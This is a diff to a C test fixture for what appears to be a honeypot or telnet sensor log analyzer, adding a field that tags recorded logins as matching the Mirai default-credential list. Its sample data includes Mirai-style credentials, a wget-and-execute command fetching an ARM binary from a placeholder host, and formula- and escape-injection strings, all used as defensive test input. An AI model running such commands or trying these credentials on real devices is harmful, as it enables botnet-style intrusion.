@@ -74,13 +74,14 @@ static void talk_to(struct span *s, uint32_t second, const char *source, uint16_
 }
 
 static void login(struct span *s, uint32_t second, const char *source, struct text_ref user,
-                  struct text_ref password, bool accepted)
+                  struct text_ref password, enum login_list list, bool accepted)
 {
     s->logins[s->rows.login_count++] = (struct login_row){.time_us = at(s, second),
                                                           .talk = from(source, 23),
                                                           .user = user,
                                                           .password = password,
-                                                          .accepted = accepted};
+                                                          .accepted = accepted,
+                                                          .list = (uint8_t)list};
 }
 
 static void command(struct span *s, uint32_t second, const char *source, struct text_ref text,
@@ -148,11 +149,12 @@ static void first_span(struct span *s)
     talk_to(s, 20, "198.51.100.7", 23, 60, false);
     talk_to(s, 30, "198.51.100.7", 5555, 0, false);
     talk_to(s, 40, "2001:db8::9", 23, 12, true);
-    login(s, 11, "192.0.2.9", KEEP(s, "root"), KEEP(s, "xc3511"), true);
-    login(s, 21, "198.51.100.7", KEEP(s, "root"), KEEP(s, "xc3511"), false);
-    login(s, 22, "198.51.100.7", KEEP(s, "admin"), KEEP(s, ""), false);
-    login(s, 41, "2001:db8::9", KEEP(s, "\033[31mred"), KEEP(s, "a\0b\xff,\"=1"), false);
-    login(s, 42, "2001:db8::9", KEEP(s, "=cmd()"), KEEP(s, "定点"), false);
+    login(s, 11, "192.0.2.9", KEEP(s, "root"), KEEP(s, "xc3511"), LOGIN_LIST_MIRAI, true);
+    login(s, 21, "198.51.100.7", KEEP(s, "root"), KEEP(s, "xc3511"), LOGIN_LIST_MIRAI, false);
+    login(s, 22, "198.51.100.7", KEEP(s, "admin"), KEEP(s, ""), LOGIN_LIST_MIRAI, false);
+    login(s, 41, "2001:db8::9", KEEP(s, "\033[31mred"), KEEP(s, "a\0b\xff,\"=1"), LOGIN_LIST_NONE,
+          false);
+    login(s, 42, "2001:db8::9", KEEP(s, "=cmd()"), KEEP(s, "定点"), LOGIN_LIST_NONE, false);
     command(s, 12, "192.0.2.9", KEEP(s, "/bin/busybox ECCHI"), KEEP(s, "ECCHI"));
     command(s, 13, "192.0.2.9",
             KEEP(s, "cd /tmp; wget http://192.0.2.9/bins/x.arm7 -O - >.x; sh .x"), KEEP(s, ""));
@@ -177,7 +179,7 @@ static void second_span(struct span *s)
 {
     s->hour = 10;
     talk_to(s, 10, "192.0.2.9", 23, 80, false);
-    login(s, 11, "192.0.2.9", KEEP(s, "root"), KEEP(s, "xc3511"), true);
+    login(s, 11, "192.0.2.9", KEEP(s, "root"), KEEP(s, "xc3511"), LOGIN_LIST_MIRAI, true);
     download(s, 13, "192.0.2.9", 23, DOWNLOAD_TFTP, false, tftp);
     content(s, 0xaa, KEEP(s, HTTP_REQUEST), false, "mvpower-dvr generic-downloader");
     content(s, 0xcc, KEEP(s, HUAWEI), false, "huawei-hg532 of-another-pack");
@@ -190,7 +192,7 @@ static void other_sensor(struct span *s)
 {
     s->hour = 12;
     talk_to(s, 10, "198.51.100.8", 23, 5, false);
-    login(s, 11, "198.51.100.8", KEEP(s, "admin"), KEEP(s, "admin"), false);
+    login(s, 11, "198.51.100.8", KEEP(s, "admin"), KEEP(s, "admin"), LOGIN_LIST_MIRAI, false);
     event(s, 60, 120, EVENT_DISK_FULL, 6, "no space left on device");
 }
 
